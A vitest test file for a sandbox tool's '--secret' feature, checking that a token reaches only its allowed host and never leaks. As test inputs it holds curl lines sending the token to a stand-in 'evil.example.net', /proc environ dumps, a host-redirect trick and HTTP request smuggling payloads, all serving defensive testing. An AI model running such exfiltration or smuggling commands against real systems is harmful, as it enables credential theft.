/**
 * @module
 * `--secret`: programs work with a token that they don't have, and nobody else gets it.
 */
import { spawn, type ChildProcess } from "node:child_process";
import { once } from "node:events";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createRunAuthority } from "../../src/egress/secrets/run-authority.ts";
import { findProgram } from "../helpers/find-program.ts";
import { ownNetworkGap } from "../helpers/own-network.ts";
import { skipUnless } from "../helpers/require.ts";
import { openTestTerminal } from "../helpers/terminal.ts";
import {
  runToItsEnd,
  type Ended,
  openWorld,
  testHosts,
  worldUsers,
  type AskingWorld,
} from "./asking-fixture.ts";

const gap = skipUnless("linux", ownNetworkGap());
const curlGap = skipUnless(
  "programs",
  findProgram("curl") === undefined ? "curl is missing" : undefined,
);
const value = "kT5-the-real-token";
const api = "api.example.com";
const evil = "evil.example.net";

/** Keys in the first half second of a question are not for it. */
const GUARD_MS = 600;

/** Tells of each request what might have a token in it, and asks Git for its password. */
const hostsScript = `
const { createServer } = require("node:https");
const hosts = JSON.parse(process.argv[1]);
let left = hosts.length;
for (const { address, ...identity } of hosts) {
  const server = createServer({ ...identity, maxHeaderSize: 65536 }, (request, response) => {
    const { authorization = "" } = request.headers;
    const sent = [request.url, authorization, authorization.startsWith("Basic ")
      ? Buffer.from(authorization.slice(6), "base64").toString() : ""].join(" ");
    process.stdout.write(request.headers.host + " " + sent + "\\n");
    if (request.url.includes(".git") && authorization === "")
      response.writeHead(401, { "www-authenticate": "Basic realm=x" });
    if (request.url === "/last") response.setHeader("connection", "close");
    if (request.url !== "/silent") response.end("answered\\n");
  });
  server.maxHeadersCount = 0;
  server.listen(443, address, () => { left -= 1; if (left === 0) process.stdout.write("ready\\n"); });
}
`;

describe.skipIf(gap !== undefined).each(worldUsers)("secrets of %s's programs", (user) => {
  let world: AskingWorld;
  let hosts: ChildProcess;
  let received = "";
  let env: NodeJS.ProcessEnv;

  beforeAll(async () => {
    world = await openWorld(user);
    const authority = createRunAuthority();
    world.write("ca.pem", authority.certificate, 0o644);
    env = {
      ...process.env,
      ...world.env,
      TOKEN: value,
      NODE_EXTRA_CA_CERTS: `${world.home}/../ca.pem`,
    };
    const served = [api, evil].map((name) => ({
      address: testHosts[name as keyof typeof testHosts][0],
      ...authority.certify(name),
    }));
    const words = [...world.network.enter, process.execPath, "-e", hostsScript];
    hosts = spawn("env", [...words, JSON.stringify(served)], {
      stdio: ["ignore", "pipe", "inherit"],
    });
    const { stdout } = hosts;
    if (stdout === null) throw new Error("a piped stdout");
    const ready = new Promise<void>((resolve) => {
      stdout.setEncoding("utf8").on("data", (piece: string) => {
        received += piece;
        if (received.includes("ready\n")) resolve();
      });
    });
    await Promise.race([ready, once(hosts, "exit").then(() => Promise.reject(new Error("ended")))]);
  });
  afterAll(async () => {
    const ended = once(hosts, "exit");
    hosts.kill("SIGKILL");
    await ended;
    await world.close();
  });

  const run = (...args: readonly string[]): Promise<Ended> => {
    received = "";
    return runToItsEnd([...world.cli, "run", "--ask", "never", ...args], env);
  };
  const withSecret = [`--secret`, `TOKEN@${api}`, `--allow-net=${api}`];

  test.skipIf(curlGap !== undefined).each([
    ["curl", `curl -sS -H "Authorization: Bearer $TOKEN" https://${api}/`, `/ Bearer ${value}`],
    ["curl with a password", `curl -sS -u "me:$TOKEN" https://${api}/`, `me:${value}`],
    ["curl with a query", `curl -sS "https://${api}/?key=$TOKEN"`, `/?key=${value}`],
    [
      "curl that looks where it always does",
      `env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS -H "Authorization: $TOKEN" https://${api}/`,
      value,
    ],
    [
      "python's urllib",
      `python3 -c 'import os, urllib.request as it; print(it.urlopen(it.Request("https://${api}/", headers={"Authorization": os.environ["TOKEN"]})).read().decode())'`,
      value,
    ],
    [
      "node's fetch",
      `node -e 'fetch("https://${api}/", { headers: { authorization: process.env.TOKEN } }).then((it) => it.text()).then(console.log)'`,
      value,
    ],
  ])("%s gets its answer, and the host the token", async (_, script, sent) => {
    const { stdout, stderr, exitCode } = await run(...withSecret, "--", "bash", "-c", script);
    expect([stderr, exitCode]).toEqual(["", 0]);
    expect(stdout).toContain("answered");
    expect(received).toContain(sent);
  });

  test.skipIf(findProgram("git") === undefined)("git gets in with it as a password", async () => {
    const script = `git -c credential.helper= ls-remote "https://me:$TOKEN@${api}/repo.git"; true`;
    await run(...withSecret, "--", "bash", "-c", script);
    expect(received).toContain(`me:${value}`);
  });

  test("nothing inside has it, and nothing of ours says it", async () => {
    const script = [
      "env; cat /proc/*/environ /proc/*/cmdline",
      `echo "files with it: $(grep -rsl "$(printf 'kT5-the-real%s' -token)" /tmp /home /etc /.glovebox "$PWD" | wc -l)"`,
      `curl -sS -o /dev/null -H "Authorization: $TOKEN" https://${api}/`,
    ].join("\n");
    const { stdout, stderr } = await run(
      ...withSecret,
      ...["--report", "--verbose", "--json"],
      ...["--", "bash", "-c", script],
    );
    expect(stdout).toMatch(/TOKEN=glovebox-secret-TOKEN-[0-9a-f]{32}\b/);
    expect(stdout + stderr).not.toContain(value);
    expect(stdout).toContain("files with it: 0");
    expect(stdout).toContain(`"secret-sent"`);
    expect(received).toContain(value);
  });

  test("another host gets the placeholder, allowed or not named at all", async () => {
    const script = `curl -sS -H "Authorization: $TOKEN" https://${evil}/; curl -sS -H "X: $TOKEN" http://${api}/$TOKEN`;
    const args = [`--secret`, `TOKEN@${api}`, `--allow-net=${evil}`, `--allow-net=${api}:80`];
    const before = world.received().length;
    const { stdout } = await run(...args, "--", "bash", "-c", script);
    expect(stdout).toContain("answered");
    expect(received).toMatch(/^evil.example.net \/ glovebox-secret-TOKEN-\w{32} $/m);
    expect(world.received().slice(before)).toMatch(/GET \/glovebox-secret-TOKEN-/);
    expect(received + world.received()).not.toContain(value);
  });

  test("a redirect to another host takes the placeholder along, and no more", async () => {
    const script = `curl -sS --connect-to ${evil}:443:${api}:443 -H "Authorization: $TOKEN" https://${evil}/`;
    const { exitCode, stderr } = await run(...withSecret, "--", "bash", "-c", script);
    expect(exitCode).not.toBe(0);
    expect(stderr).toContain(`named another host on a connection to ${api}:443`);
    expect(received).toBe("");
  });

  test.each([
    [
      "a request in the body of one with more headers than most read",
      `get("/first", "a: b\\r\\n" * 1100 + f"Content-Length: {len(smuggled)}\\r\\n") + smuggled + get("/then", secret)`,
      "/first",
    ],
    ["four requests to a host that closes after one", `get("/last") * 4`, "/last"],
    [
      "another protocol, behind a request that is not answered",
      `get("/silent") + get("/other", "Connection: Upgrade\\r\\nUpgrade: x\\r\\n")`,
      // Cut off at once, maybe before the first one was sent.
      undefined,
    ],
  ])("%s leads nowhere, and the run ends", async (_, bytes, path) => {
    const script = `
import os, socket, ssl
def get(path, more=""):
    return f"GET {path} HTTP/1.1\\r\\nHost: ${api}\\r\\n{more}\\r\\n"
secret = f"Authorization: {os.environ['TOKEN']}\\r\\n"
smuggled = f"POST /smuggled HTTP/1.1\\r\\nHost: ${api}\\r\\nContent-Length: 90\\r\\n\\r\\n"
plain = socket.create_connection(("${api}", 443))
tls = ssl.create_default_context().wrap_socket(plain, server_hostname="${api}")
tls.settimeout(1)
try:
    tls.sendall((${bytes}).encode())
    while tls.recv(9999): pass
except OSError: pass
print("still there")`;
    const { stdout, exitCode } = await run(...withSecret, "--", "python3", "-c", script);
    expect([stdout, exitCode]).toEqual(["still there\n", 0]);
    if (path !== undefined) expect(received).toContain(`${api} ${path} `);
    expect(received).not.toMatch(/\/(smuggled|other)/);
  });

  test("a secret allows no connection by itself", async () => {
    const script = `curl -sS https://${api}/`;
    const { exitCode, stderr } = await run(`--secret=TOKEN@${api}`, "--", "bash", "-c", script);
    expect(exitCode).not.toBe(0);
    expect(stderr).toContain(`--allow-net=${api}:443`);
    expect(received).toBe("");
  });

  test("the question says what may be sent there", async () => {
    const words = ["run", `--secret=TOKEN@${api}`, "--", "curl", "-sS", `https://${api}/`];
    const terminal = openTestTerminal([...world.cli, ...words], {
      env: { ...world.env, TOKEN: value, NODE_EXTRA_CA_CERTS: env["NODE_EXTRA_CA_CERTS"] ?? "" },
    });
    try {
      await terminal.until("TOKEN may be sent there");
      await terminal.until("more >");
      await new Promise((resolve) => setTimeout(resolve, GUARD_MS));
      terminal.type("s");
      await terminal.until("answered");
      expect(await terminal.ended).toBe(0);
      expect(terminal.shown()).not.toContain(value);
    } finally {
      terminal.kill();
    }
  });

  test.each([
    ["docker", []],
    ["process", ["--enforcement", "best-effort"]],
  ])("the provider %s has none", async (provider, more) => {
    const args = [`--secret=TOKEN@${api}`, "--provider", provider, ...more, "--", "true"];
    const { exitCode, stderr } = await run(...args);
    expect(exitCode).toBe(125);
    expect(stderr).not.toContain(value);
  });
});
